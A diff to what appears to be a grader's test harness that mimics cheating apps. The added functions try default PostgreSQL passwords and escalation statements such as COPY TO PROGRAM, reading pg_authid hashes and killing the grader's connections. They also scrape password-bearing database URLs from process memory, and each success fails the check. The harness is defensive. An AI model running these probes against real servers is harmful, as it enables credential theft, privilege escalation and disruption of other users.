@@ -218,3 +218,156 @@ def daemon(work, seconds=60):
         quiet(work)
         time.sleep(0.5)
     os._exit(0)
+
+
+# --- The later steps: a database server, planted files, cookies --------------------------
+
+GOT_THROUGH = "CHEAT GOT THROUGH"  # printed by an attack that did what it must not: check_cheats.py fails on it
+RAN = "CHEAT RAN"  # printed once an attack has really tried (check_cheats.py fails without it)
+
+
+def got_through(what):
+    print(f"{GOT_THROUGH}: {what}", flush=True)
+
+
+def ran(what):
+    print(f"{RAN}: {what}", flush=True)
+
+
+def read_at(stream, offset, size):
+    stream.seek(offset)
+    return stream.read(size)
+
+
+def rows_of(connection, statement):
+    cursor = connection.execute(statement)
+    return cursor.fetchall() if cursor.description else []
+
+
+def postgres_urls_in_memory(limit=256 * 2**20):
+    """Database URLs in this process's own memory: the app host forked it, with whatever the
+    host ever received (an earlier test's DATABASE_URL, with its password) still in its heap."""
+    found = set()
+    pattern = re.compile(rb"postgresql(?:\+psycopg)?://[A-Za-z0-9_]+:[A-Za-z0-9_.~-]+@/[A-Za-z0-9_]+\?host=[\w/.-]+")
+    maps = quiet(lambda: open("/proc/self/maps").read()) or ""
+    with open("/proc/self/mem", "rb", 0) as memory:
+        for line in maps.splitlines():
+            parts = line.split()
+            if len(parts) < 2 or not parts[1].startswith("rw"):
+                continue
+            start, end = (int(x, 16) for x in parts[0].split("-"))
+            if end - start > limit:
+                continue
+            limit -= end - start
+            if limit < 0:
+                break
+            data = quiet(read_at, memory, start, end - start)
+            if data:
+                found.update(match.group().decode() for match in pattern.finditer(data))
+    return sorted(found)
+
+
+def postgres_attempts():
+    """What an app can try on the grader's PostgreSQL server (CI runs the database steps on one):
+    the server's own databases and superuser, every other database with the app's own role and
+    with every other URL it can find, and the superuser's powers from inside its own database.
+    Anything that works is reported with got_through()."""
+    import urllib.parse
+
+    import psycopg
+
+    def connect(**kwargs):
+        return psycopg.connect(connect_timeout=3, autocommit=True, **kwargs)
+
+    mine = os.environ.get("DATABASE_URL", "")
+    sockets = set(glob.glob("/tmp/workshop-postgres-*/sockets")) | set(glob.glob("/tmp/*/sockets"))
+    user = password = database = None
+    if mine.startswith("postgresql"):
+        parts = urllib.parse.urlsplit(mine)
+        user, password, database = parts.username, parts.password, parts.path.lstrip("/")
+        sockets |= set(urllib.parse.parse_qs(parts.query).get("host", []))
+    for socket_folder in sorted(sockets):
+        for name, secret in [("postgres", None), ("postgres", "postgres"), ("postgres", "password"),
+                             ("root", None), ("nobody", None)]:
+            connection = quiet(connect, host=socket_folder, user=name, password=secret, dbname="postgres")
+            if connection:
+                got_through(f"logged in to the server as {name} with the password {secret!r}")
+                connection.close()
+        if not user:
+            continue
+        for other in ("postgres", "template1", "template0"):
+            connection = quiet(connect, host=socket_folder, user=user, password=password, dbname=other)
+            if connection:
+                got_through(f"its role {user} connected to the server's database {other}")
+                connection.close()
+        own = quiet(connect, host=socket_folder, user=user, password=password, dbname=database)
+        if own is None:
+            continue
+        ran(f"logged in to PostgreSQL at {socket_folder} as its own role")
+        names = [row[0] for row in quiet(rows_of, own, "SELECT datname FROM pg_database") or []]
+        for other in names:
+            if other == database:
+                continue
+            connection = quiet(connect, host=socket_folder, user=user, password=password, dbname=other)
+            if connection:
+                got_through(f"its role {user} connected to another database, {other}")
+                connection.close()
+        powers = {
+            "read a server file": "SELECT pg_read_file('/etc/hostname')",
+            "run a program": "COPY (SELECT 1) TO PROGRAM 'true'",
+            "read the password hashes": "SELECT rolname, rolpassword FROM pg_authid",
+            "become superuser": "ALTER ROLE CURRENT_USER SUPERUSER",
+            "make a role": "CREATE ROLE cheat_role LOGIN PASSWORD 'cheat'",
+            "make a database": "CREATE DATABASE cheat_database",
+            "load dblink (to reach other databases)": "CREATE EXTENSION dblink",
+            "change the server's settings": "ALTER SYSTEM SET log_statement = 'all'",
+            "end the grader's connections": "SELECT pg_terminate_backend(pid) FROM pg_stat_activity "
+                                            "WHERE usename <> CURRENT_USER AND pid <> pg_backend_pid() "
+                                            "AND backend_type = 'client backend'",
+            "import a server file": "SELECT lo_import('/etc/hostname')",
+            "become postgres": "SET ROLE postgres",
+        }
+        for what, statement in powers.items():
+            try:
+                rows = rows_of(own, statement)
+            except Exception:  # noqa: BLE001 - refused, as it should be
+                continue
+            if what != "end the grader's connections" or any(row[0] for row in rows):
+                got_through(f"its role could {what}: {statement}")
+        others = quiet(rows_of, own, "SELECT query FROM pg_stat_activity "
+                                     "WHERE usename <> CURRENT_USER AND query ILIKE '%password%'") or []
+        for (query,) in others:
+            if query and "<insufficient privilege>" not in query:
+                got_through(f"read another session's statement with a password: {query[:80]}")
+        own.close()
+    urls = postgres_urls_in_memory()
+    if mine.startswith("postgresql") and urllib.parse.unquote(mine) in urls:
+        ran(f"found its own URL in its memory, among {len(urls)}")
+    for url in urls:
+        if url.split("?")[0] == mine.split("?")[0]:
+            continue
+        parts = urllib.parse.urlsplit(url)
+        host = urllib.parse.parse_qs(parts.query).get("host", [""])[0]
+        connection = quiet(connect, host=host, user=parts.username, password=parts.password,
+                           dbname=parts.path.lstrip("/"))
+        if connection:
+            got_through(f"connected with another test's URL found in memory: {parts.username}")
+            connection.close()
+        else:
+            ran(f"found another test's URL in memory ({parts.username}): it no longer works")
+
+
+PLANTED = [".env", "bookmarks.db", "old.sqlite", "data.sqlite3", "db/bookmarks.db"]
+
+
+def planted_files_reached():
+    """The files planted in the learner's folder (a .env that sets the harness's variables, a
+    database filled beforehand): the checks' copy must hold none of them, the environment none
+    of their settings."""
+    for name in PLANTED:
+        if os.path.exists(name):
+            got_through(f"the copy it runs on holds the learner's {name}")
+    for variable in ("CHEAT_FROM_ENV_FILE", "WORKSHOP_SANDBOX", "WORKSHOP_DATABASE", "PYTEST_ADDOPTS"):
+        if variable in os.environ:
+            got_through(f"{variable}={os.environ[variable]} is in the app's environment")
+    ran(f"looked for {', '.join(PLANTED)} in {os.getcwd()}")
